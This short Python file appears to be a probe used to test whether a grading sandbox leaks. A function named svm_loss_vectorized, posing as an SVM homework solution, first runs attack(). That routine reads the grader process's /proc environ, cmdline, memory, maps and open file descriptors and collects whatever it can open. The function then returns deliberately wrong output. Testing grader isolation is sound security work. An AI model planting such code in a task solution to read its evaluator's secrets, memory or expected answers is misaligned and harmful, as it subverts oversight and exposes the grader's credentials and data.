"""Reads the environment, arguments, memory and files of its grader."""

import os

import kit
from targets import TARGETS


@kit.once
def attack():
    for pid in (TARGETS["pid"], os.getppid(), TARGETS["runner"], 1):
        for name in (
            "environ",
            "cmdline",
            "mem",
            "maps",
            "status",
            "stat",
            "auxv",
            "io",
            "fd",
            "cwd",
        ):
            path = f"/proc/{pid}/{name}"
            if pid == 1 and os.getppid() == 1:
                continue  # inside a PID namespace, this is not the grader
            if name in ("fd", "cwd"):
                kit.attempt(f"{path} could be listed", os.listdir, path)
            elif kit.attempt(f"{path} could be opened", open, path, "rb"):
                kit.loot(path)
        for number in range(64):
            kit.loot(f"/proc/{pid}/fd/{number}")


def svm_loss_vectorized(W, X, y, reg):
    attack()
    return kit.wrong(W, X, y, reg)
